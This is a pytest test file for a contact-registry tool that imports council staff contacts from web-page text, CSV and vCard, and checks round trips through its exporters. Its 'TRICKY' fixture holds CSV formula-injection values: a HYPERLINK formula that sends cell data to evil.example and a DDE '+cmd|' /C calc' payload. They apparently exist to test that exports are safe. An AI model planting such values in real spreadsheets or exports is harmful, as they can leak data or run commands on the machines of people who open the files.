"""kvlookup import: the web page's contact blocks, CSV and vCard, merged without losing data."""

from __future__ import annotations

import csv
import io
import json
import tomllib
from pathlib import Path

import pytest
import typer

from kvlookup.editing import importer

from .conftest import DATA, Invoke

SEED = DATA / "seed_page.txt"  # the council's international-affairs page, as text

SEED_PEOPLE = {
    "hannu-koponen": ("Hannu Koponen", "+358 40 5950009", "hannu.koponen@keskisuomi.fi"),
    "kari-pirinen": ("Kari Pirinen", "+358 40 5950008", "kari.pirinen@keskisuomi.fi"),
    "raija-partanen": ("Raija Partanen", "+358 40 5950139", "raija.partanen@keskisuomi.fi"),
    "veli-pekka-paivanen": (
        "Veli-Pekka Päivänen",
        "+358 40 5950005",
        "veli-pekka.paivanen@keskisuomi.fi",
    ),
}


def _first_contact(run: Invoke, query: str) -> str:
    result = run("who", query, "--format", "json")
    assert result.exit_code == 0, (query, result.stderr)
    name: str = json.loads(result.stdout)["matches"][0]["contacts"][0]["name"]
    return name


def test_seed_page_blocks_are_read() -> None:
    contacts = importer.read(SEED)
    assert [c.name for c in contacts] == [name for name, _, _ in SEED_PEOPLE.values()]
    hannu = contacts[0]
    assert (hannu.person.title, hannu.person.phone, hannu.person.email) == (
        "kehittämispäällikkö",
        "+358 40 5950009",
        "hannu.koponen@keskisuomi.fi",
    )
    assert tuple(h.label for h in hannu.handles) == (
        "WFEO",
        "FEDARENE",
        "BEA-APP-hanke",
        "RDI2CluB-hanke",
        "Baltic ForBio-hanke",
    )
    assert tuple(h.label for h in contacts[2].handles) == ("Luova talous", "CREADIS3 -hanke")


@pytest.mark.parametrize(
    ("line", "title", "name"),
    [
        ("kehittämispäällikkö Hannu Koponen", "kehittämispäällikkö", "Hannu Koponen"),
        ("kehittämispäällikkö Veli-Pekka Päivänen", "kehittämispäällikkö", "Veli-Pekka Päivänen"),
        ("EU-asiantuntija Matti Meikäläinen", "EU-asiantuntija", "Matti Meikäläinen"),
        ("Anna Aalto", "", "Anna Aalto"),
    ],
)
def test_title_and_name_are_told_apart(line: str, title: str, name: str) -> None:
    assert importer.split_title(line) == (title, name)


def test_seed_import_into_the_bundled_registry_changes_nothing(
    run: Invoke, registry_path: Path
) -> None:
    before = registry_path.read_bytes()
    result = run("import", str(SEED), "--yes")
    assert result.exit_code == 0, result.stderr
    assert "Nothing to change" in result.stderr
    assert result.stdout == ""
    assert registry_path.read_bytes() == before


def test_seed_import_into_an_empty_registry_is_complete_and_idempotent(
    run: Invoke, registry_path: Path
) -> None:
    registry_path.write_bytes(b"")
    result = run("import", str(SEED), "--yes")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("--- a/contacts.toml\n+++ b/contacts.toml\n")
    assert run("check").exit_code == 0
    data = tomllib.loads(registry_path.read_text(encoding="utf-8"))
    people = {pid: (p["name"], p["phone"], p["email"]) for pid, p in data["people"].items()}
    assert people == SEED_PEOPLE
    for query, contact in [
        ("WFEO", "Hannu Koponen"),
        ("FEDARENE", "Hannu Koponen"),
        ("BEA-APP-hanke", "Hannu Koponen"),
        ("RDI2CluB", "Hannu Koponen"),
        ("Baltic ForBio", "Hannu Koponen"),
        ("Koulutusvienti", "Kari Pirinen"),
        ("Luova talous", "Raija Partanen"),
        ("CREADIS3", "Raija Partanen"),
        ("Suomalais-venäläinen kauppakamari", "Veli-Pekka Päivänen"),
    ]:
        assert _first_contact(run, query) == contact
    assert data["projects"]["bea-app"] == {
        "name": "BEA-APP",
        "aliases": ["BEA-APP-hanke"],
        "contacts": ["hannu-koponen"],
    }
    assert set(data["networks"]) == {"suomalais-venalainen-kauppakamari"}
    # Again: nothing to do, not a byte changes.
    imported = registry_path.read_bytes()
    again = run("import", str(SEED), "--yes")
    assert again.exit_code == 0
    assert "Nothing to change" in again.stderr
    assert registry_path.read_bytes() == imported


def test_import_creates_a_missing_registry(run: Invoke, tmp_path: Path) -> None:
    path = tmp_path / "new" / "contacts.toml"
    path.parent.mkdir()
    result = run("--registry", str(path), "import", str(SEED), "--yes")
    assert result.exit_code == 0, result.stderr
    assert f"Created {path}" in result.stderr
    assert len(tomllib.loads(path.read_text(encoding="utf-8"))["people"]) == 4


def test_changed_details_update_only_their_lines(
    run: Invoke, registry_path: Path, tmp_path: Path
) -> None:
    page = tmp_path / "page.txt"
    page.write_text(
        "Yhteyshenkilöt:\nKoulutusvienti, ERRIN, Uusi verkosto\n"
        "johtava asiantuntija Kari Pirinen\np. 040 595 0099\nkari.pirinen[at]keskisuomi.fi\n",
        encoding="utf-8",
    )
    result = run("import", str(page), "--dry-run")
    assert result.exit_code == 0
    diff = [line for line in result.stdout.splitlines() if line[:1] in "+-"]
    assert diff == [
        "--- a/contacts.toml",
        "+++ b/contacts.toml",
        '-title = "kehittämispäällikkö"',  # title_en between them is unchanged and not shown
        '+title = "johtava asiantuntija"',
        '-phone = "+358 40 5950008"',
        '+phone = "+358 40 5950099"',
        '+contacts = ["kari-pirinen"]',  # ERRIN: Kari now named directly, via WFEO kept
        "+",
        "+[networks.uusi-verkosto]",  # a new heading with "verkosto" is a network
        '+name = "Uusi verkosto"',
        '+contacts = ["kari-pirinen"]',
    ]
    # Koulutusvienti already had Kari: no change there.
    assert "Dry run" in result.stderr


def test_import_never_removes(run: Invoke, registry_path: Path, tmp_path: Path) -> None:
    # The page lists Kari alone; the others and his other duties stay.
    page = tmp_path / "page.txt"
    page.write_text(
        "Koulutusvienti\nkehittämispäällikkö Kari Pirinen\np. 040 595 0008\n", encoding="utf-8"
    )
    before = registry_path.read_bytes()
    result = run("import", str(page), "--yes")
    assert "Nothing to change" in result.stderr
    assert registry_path.read_bytes() == before


def test_prompt_declined_writes_nothing(run: Invoke, registry_path: Path) -> None:
    registry_path.write_bytes(b"")
    result = run("import", str(SEED), input="n\n")
    assert result.exit_code == 1
    assert "Write these changes to" in result.stderr and "Nothing written." in result.stderr
    assert registry_path.read_bytes() == b""


def test_no_answer_means_no(run: Invoke, registry_path: Path) -> None:
    registry_path.write_bytes(b"")
    result = run("import", str(SEED), input="")
    assert result.exit_code == 1
    assert registry_path.read_bytes() == b""


def test_prompt_accepted_writes(run: Invoke, registry_path: Path) -> None:
    registry_path.write_bytes(b"")
    result = run("import", str(SEED), input="y\n")
    assert result.exit_code == 0, result.stderr
    assert "[people.hannu-koponen]" in registry_path.read_text(encoding="utf-8")


def test_registry_changed_while_the_diff_was_shown(
    run: Invoke, registry_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    registry_path.write_bytes(b"")

    def colleague_saves_meanwhile(question: str, **kwargs: object) -> bool:
        registry_path.write_bytes(b'[people.x]\nname = "Xavier"\n')
        return True

    monkeypatch.setattr(typer, "confirm", colleague_saves_meanwhile)
    result = run("import", str(SEED))
    assert result.exit_code == 4
    assert "changed on disk since it was read" in result.stderr
    assert registry_path.read_bytes() == b'[people.x]\nname = "Xavier"\n'


def test_phone_with_a_letter_is_reported_with_its_line(
    run: Invoke, registry_path: Path, tmp_path: Path
) -> None:
    page = tmp_path / "page.txt"
    page.write_text(
        "Koulutusvienti\nkehittämispäällikkö Kari Pirinen\np. 040 595O008\nkari[at]x\n",
        encoding="utf-8",
    )
    before = registry_path.read_bytes()
    result = run("import", str(page), "--yes")
    assert result.exit_code == 2
    assert "page.txt:3: invalid phone number '040 595O008'" in result.stderr
    assert "page.txt:4: invalid email address 'kari[at]x'" in result.stderr
    assert "2 problem(s) in" in result.stderr
    assert registry_path.read_bytes() == before


def test_ambiguous_person_is_refused(run: Invoke, registry_path: Path, tmp_path: Path) -> None:
    for pid in ("matti-1", "matti-2"):
        assert run("add", "person", pid, "--name", "Matti Virtanen").exit_code == 0
    page = tmp_path / "page.txt"
    page.write_text("Koulutusvienti\nsuunnittelija Matti Virtanen\np. 040 123 4567\n")
    before = registry_path.read_bytes()
    result = run("import", str(page), "--yes")
    assert result.exit_code == 2
    assert "matches several" in result.stderr and "matti-1" in result.stderr
    assert registry_path.read_bytes() == before


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_with_a_header_row(
    run: Invoke, registry_path: Path, tmp_path: Path, delimiter: str
) -> None:
    rows = [
        ["nimi", "nimike", "puhelin", "sähköposti", "vastuut"],
        [
            "Anna Aalto",
            "suunnittelija",
            "040 123 4567",
            "anna.aalto[at]keskisuomi.fi",
            "Tilat; ERRIN",
        ],
        ["Kari Pirinen", "", "", "", "Tilat"],
    ]
    csv_file = tmp_path / "staff.csv"
    csv_file.write_text(
        "\r\n".join(delimiter.join(f'"{c}"' if ";" in c else c for c in r) for r in rows) + "\r\n",
        encoding="utf-8-sig",  # as Excel saves it
    )
    result = run("import", str(csv_file), "--yes")
    assert result.exit_code == 0, result.stderr
    data = tomllib.loads(registry_path.read_text(encoding="utf-8"))
    assert data["people"]["anna-aalto"] == {
        "name": "Anna Aalto",
        "title": "suunnittelija",
        "phone": "+358 40 1234567",
        "email": "anna.aalto@keskisuomi.fi",
    }
    assert data["topics"]["tilat"]["contacts"] == ["anna-aalto", "kari-pirinen"]
    assert data["networks"]["errin"]["contacts"] == ["anna-aalto"]
    assert data["people"]["kari-pirinen"]["title"] == "kehittämispäällikkö"  # empty = not given


def test_csv_problems(run: Invoke, tmp_path: Path) -> None:
    csv_file = tmp_path / "staff.csv"
    csv_file.write_text("name;handles\nAnna Aalto;Tilat; ERRIN\n;Tilat\n", encoding="utf-8")
    result = run("import", str(csv_file))
    assert result.exit_code == 2
    assert "staff.csv:2: 3 cells but 2 columns" in result.stderr
    assert "staff.csv:3: no name found" in result.stderr


VCARD = """\
BEGIN:VCARD
VERSION:3.0
FN:Anna Aalto
N:Aalto;Anna;;;
TITLE:suunnittelija
TEL;TYPE=WORK,VOICE:040 123 4567
EMAIL;TYPE=INTERNET:anna.aalto@keskisuomi.fi
CATEGORIES:Tilavaraukset,FEDARENE
END:VCARD
"""


def test_vcard(run: Invoke, registry_path: Path, tmp_path: Path) -> None:
    card = tmp_path / "anna.vcf"
    card.write_text(VCARD, encoding="utf-8")
    result = run("import", str(card), "--yes")
    assert result.exit_code == 0, result.stderr
    data = tomllib.loads(registry_path.read_text(encoding="utf-8"))
    assert data["people"]["anna-aalto"]["phone"] == "+358 40 1234567"
    assert data["topics"]["tilavaraukset"]["contacts"] == ["anna-aalto"]
    assert data["networks"]["fedarene"]["contacts"] == ["hannu-koponen", "anna-aalto"]
    again = run("import", str(card), "--yes")
    assert "Nothing to change" in again.stderr


def test_unreadable_and_empty_files(run: Invoke, tmp_path: Path) -> None:
    missing = run("import", str(tmp_path / "missing.txt"))
    assert missing.exit_code == 2 and "Cannot read" in missing.stderr
    empty = tmp_path / "empty.txt"
    empty.write_text("Nothing here.\n", encoding="utf-8")
    result = run("import", str(empty))
    assert result.exit_code == 2 and "No contacts found" in result.stderr


# --- page text: phone lines told by what they hold -------------------------------------

PAGE_WITH_LABELS = """\
Yhteyshenkilöt:
Puhdas energia
puheenjohtaja Matti M.
Mobile: +358 50 123 4567
matti.m[at]keskisuomi.fi

Koulutusvienti, Luova talous
suunnittelija Anna Aalto
gsm 050 765 4321

Kansainväliset hankkeet
projektisihteeri Pekka Pouta
sähköposti: pekka.pouta[at]keskisuomi.fi
"""


def test_page_phone_lines_are_told_by_their_number(
    run: Invoke, registry_path: Path, tmp_path: Path
) -> None:
    # "puheenjohtaja" and "Puhdas" start like "puh." but hold no number; "Mobile:" and "gsm"
    # label numbers; a block with an email but no phone line is imported without a phone.
    page = tmp_path / "page.txt"
    page.write_text(PAGE_WITH_LABELS, encoding="utf-8")
    result = run("import", str(page), "--yes")
    assert result.exit_code == 0, result.stderr
    assert "Traceback" not in result.stderr
    people = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]
    assert people["matti-m"] == {
        "name": "Matti M.",
        "title": "puheenjohtaja",
        "phone": "+358 50 1234567",
        "email": "matti.m@keskisuomi.fi",
    }
    assert people["anna-aalto"]["phone"] == "+358 50 7654321"
    assert people["pekka-pouta"] == {
        "name": "Pekka Pouta",
        "title": "projektisihteeri",
        "email": "pekka.pouta@keskisuomi.fi",
    }
    assert _first_contact(run, "Puhdas energia") == "Matti M."
    assert _first_contact(run, "Kansainväliset hankkeet") == "Pekka Pouta"
    assert run("import", str(page), "--yes").exit_code == 0  # again: nothing to change
    assert run("check").exit_code == 0


@pytest.mark.parametrize(
    ("page_text", "message"),
    [
        # A contact with no phone number and no email: reported, not dropped.
        (
            "Koulutusvienti\nkehittämispäällikkö Kari Pirinen\np. 040 595 0008\n\n"
            "Luova talous\nsuunnittelija Anna Aalto\n",
            "page.txt:6: 'suunnittelija Anna Aalto' looks like a contact but has no phone "
            "number or email",
        ),
        # A number with nothing above it to name whose it is.
        ("Koulutusvienti\n\ngsm 050 765 4321\n", "page.txt:3: no name found in 'gsm 050 765 4321'"),
    ],
)
def test_page_block_that_cannot_be_read_is_reported(
    run: Invoke, registry_path: Path, tmp_path: Path, page_text: str, message: str
) -> None:
    page = tmp_path / "page.txt"
    page.write_text(page_text, encoding="utf-8")
    before = registry_path.read_bytes()
    result = run("import", str(page), "--yes")
    assert result.exit_code == 2
    assert message in result.stderr
    assert "nothing imported" in result.stderr and "Traceback" not in result.stderr
    assert result.stdout == ""
    assert registry_path.read_bytes() == before


# --- import is the inverse of export -------------------------------------------------------

# Values a spreadsheet would run, separators, quotes, a backslash, names in other scripts
# with no email, and numbers of other countries.
TRICKY = r"""
organisation = "Evil; Corp, Ltd"

[people.evil]
name = "Mal \"Äijälä\", Jr; x"
title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
title_en = "+cmd|' /C calc'!A0"
phone = "+7 495 123-45-67"
email = "mal@example.fi"

[people.ivan]
name = "Иван Петров"
title = "-2+3"
title_en = "R&D \\ EU, sales; ops"
phone = "+1 650-253-0000"

[people.taro]
name = "山田 太郎"
phone = "+54 9 11 2345-6789"

[topics.sum]
name = "@SUM(1+1)"
contacts = ["evil", "ivan"]

[topics.japan]
name = "日本"
contacts = ["taro"]

[networks.panel]
name = "Панель"
contacts = []

[projects.via]
name = "Via \"quoted\", project"
via = "sum"
"""

EXPORTS = [
    ("csv",),
    ("csv", "--raw"),
    ("csv", "--excel"),
    ("tsv",),
    ("tsv", "--raw"),
    ("vcard",),
    ("vcard", "--vcard-version", "4.0"),
]


@pytest.mark.parametrize("registry_text", [None, TRICKY], ids=["bundled", "tricky"])
@pytest.mark.parametrize(
    "lang", [["--lang", "fi"], ["--lang", "en"], []], ids=["fi", "en", "locale"]
)
@pytest.mark.parametrize("export_args", EXPORTS, ids=" ".join)
def test_export_then_import_changes_nothing(
    run: Invoke,
    registry_path: Path,
    tmp_path: Path,
    registry_text: str | None,
    lang: list[str],
    export_args: tuple[str, ...],
) -> None:
    if registry_text is not None:
        registry_path.write_text(registry_text, encoding="utf-8")
    env = {"LANG": "en_US.UTF-8"}  # the exporter's locale must not matter
    exported = tmp_path / "exported.txt"
    result = run(*lang, "export", "--format", *export_args, "-o", str(exported), env=env)
    assert result.exit_code == 0, result.stderr
    before = registry_path.read_bytes()
    dry = run("import", str(exported), "--dry-run")
    assert dry.exit_code == 0, dry.stderr
    assert dry.stdout == ""  # no diff
    assert "Nothing to change" in dry.stderr
    assert registry_path.read_bytes() == before


@pytest.mark.parametrize("export_args", [("csv", "--raw"), ("csv",), ("tsv",)], ids=" ".join)
def test_csv_export_imported_into_an_empty_registry_exports_the_same(
    run: Invoke, registry_path: Path, tmp_path: Path, export_args: tuple[str, ...]
) -> None:
    # Entry rows become entries of their kind, id and via, not people.
    registry_path.write_text(TRICKY, encoding="utf-8")
    exported = run("export", "--format", *export_args).stdout
    source = tmp_path / "exported.txt"
    source.write_text(exported, encoding="utf-8")
    registry_path.write_bytes(b"")
    result = run("import", str(source), "--yes")
    assert result.exit_code == 0, result.stderr
    delimiter = "\t" if export_args[0] == "tsv" else ","
    again = run("export", "--format", *export_args).stdout
    assert _csv_rows(again, delimiter) == _csv_rows(exported, delimiter)
    data = tomllib.loads(registry_path.read_text(encoding="utf-8"))
    assert set(data["people"]) == {"evil", "ivan", "taro"}
    assert data["projects"]["via"] == {"name": 'Via "quoted", project', "via": "sum"}


def _csv_rows(text: str, delimiter: str) -> list[dict[str, str]]:
    quoting = csv.QUOTE_NONE if delimiter == "\t" else csv.QUOTE_MINIMAL
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting))


def test_raw_csv_entry_rows_are_not_people(
    run: Invoke, registry_path: Path, tmp_path: Path
) -> None:
    exported = tmp_path / "raw.csv"
    assert run("export", "--raw", "-o", str(exported)).exit_code == 0
    registry_path.write_bytes(b"")
    assert run("import", str(exported), "--yes").exit_code == 0
    data = tomllib.loads(registry_path.read_text(encoding="utf-8"))
    assert set(data["people"]) == set(SEED_PEOPLE)
    assert data["networks"]["errin"] == {"name": "ERRIN", "via": "wfeo"}
    assert data["projects"]["creadis3"]["contacts"] == ["raija-partanen"]


def test_english_vcard_keeps_the_finnish_titles(
    run: Invoke, registry_path: Path, tmp_path: Path
) -> None:
    exported = tmp_path / "staff.vcf"
    result = run("export", "--format", "vcard", "-o", str(exported), env={"LANG": "en_GB.UTF-8"})
    assert result.exit_code == 0
    # An older export wrote TITLE with no language: the English title is still not Finnish.
    unmarked = tmp_path / "old.vcf"
    unmarked.write_text(
        exported.read_text(encoding="utf-8").replace("TITLE;LANGUAGE=en:", "TITLE:"),
        encoding="utf-8",
    )
    for card in (exported, unmarked):
        before = registry_path.read_bytes()
        assert run("import", str(card), "--yes").exit_code == 0
        assert registry_path.read_bytes() == before
    hannu = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]["hannu-koponen"]
    assert (hannu["title"], hannu["title_en"]) == ("kehittämispäällikkö", "Development Manager")


def test_vcard_titles_go_to_their_language(
    run: Invoke, registry_path: Path, tmp_path: Path
) -> None:
    card = tmp_path / "anna.vcf"
    card.write_text(
        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Anna Aalto\r\n"
        "TITLE;ALTID=1;LANGUAGE=en:Planner\r\nTITLE;ALTID=1;LANGUAGE=fi:suunnittelija\r\n"
        "TEL;VALUE=uri;TYPE=work:tel:+358-40-123-4567\r\nEND:VCARD\r\n",
        encoding="utf-8",
    )
    result = run("import", str(card), "--yes")
    assert result.exit_code == 0, result.stderr
    anna = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]["anna-aalto"]
    assert anna == {
        "name": "Anna Aalto",
        "title": "suunnittelija",
        "title_en": "Planner",
        "phone": "+358 40 1234567",
    }


def test_vcard_name_from_n_when_there_is_no_fn(
    run: Invoke, registry_path: Path, tmp_path: Path
) -> None:
    card = tmp_path / "anna.vcf"
    card.write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nN:Aalto;Anna;Maria;;\r\n"
        "EMAIL:anna.aalto@keskisuomi.fi\r\nEND:VCARD\r\n",
        encoding="utf-8",
    )
    result = run("import", str(card), "--yes")
    assert result.exit_code == 0, result.stderr
    people = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]
    assert people["anna-maria-aalto"]["name"] == "Anna Maria Aalto"


def test_vcard_with_no_name_is_a_clear_problem(run: Invoke, tmp_path: Path) -> None:
    card = tmp_path / "nobody.vcf"
    card.write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nEMAIL:x@keskisuomi.fi\r\nEND:VCARD\r\n", encoding="utf-8"
    )
    result = run("import", str(card), "--yes")
    assert result.exit_code == 2
    assert "nobody.vcf:vcard 1: the card has no name (neither FN nor N)" in result.stderr
    assert "dict_keys" not in result.stderr and "Traceback" not in result.stderr


# --- names in any script ------------------------------------------------------------------


def test_non_latin_names_get_stable_ids(run: Invoke, registry_path: Path, tmp_path: Path) -> None:
    rows = tmp_path / "staff.csv"
    rows.write_text("name,handles\nИван Петров,日本\n", encoding="utf-8")
    first = run("import", str(rows), "--yes")
    assert first.exit_code == 0, first.stderr
    imported = registry_path.read_bytes()
    for _ in range(2):
        again = run("import", str(rows), "--yes")
        assert again.exit_code == 0, again.stderr
        assert "Nothing to change" in again.stderr
    assert registry_path.read_bytes() == imported
    data = tomllib.loads(imported.decode("utf-8"))
    assert data["people"]["ivan-petrov"]["name"] == "Иван Петров"
    assert data["topics"]["riben"] == {"name": "日本", "contacts": ["ivan-petrov"]}
    assert not any(key.startswith("item") for key in (*data["people"], *data["topics"]))


def test_ids_past_a_thousand_taken(run: Invoke, registry_path: Path, tmp_path: Path) -> None:
    # 1,000 people already hold item, item-2 ... item-1000 (what 1,000 imported non-Latin
    # names became): the next import neither crashes nor runs out of ids.
    taken = "".join(
        f'[people.{"item" if n == 1 else f"item-{n}"}]\nname = "X {n}"\n\n' for n in range(1, 1001)
    )
    registry_path.write_text(taken, encoding="utf-8")
    rows = tmp_path / "staff.csv"
    rows.write_text("name,handles\nИван Петров,日本\n—,Tilat\n", encoding="utf-8")
    result = run("import", str(rows), "--yes")
    assert result.exit_code == 0, result.stderr
    people = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]
    assert people["ivan-petrov"]["name"] == "Иван Петров"
    assert people["item-1001"]["name"] == "—"


def test_contact_column_of_another_spreadsheet_is_not_a_person(
    run: Invoke, registry_path: Path, tmp_path: Path
) -> None:
    # Only kvlookup's export (told by its kind or contact_id column) has entry rows.
    sheet = tmp_path / "staff.csv"
    sheet.write_text("name,title,contact\nAnna Aalto,suunnittelija,Tampere\n", encoding="utf-8")
    assert run("import", str(sheet), "--yes").exit_code == 0
    data = tomllib.loads(registry_path.read_text(encoding="utf-8"))
    assert data["people"]["anna-aalto"] == {"name": "Anna Aalto", "title": "suunnittelija"}
    assert "tampere" not in data["people"] and "tampere" not in data.get("topics", {})
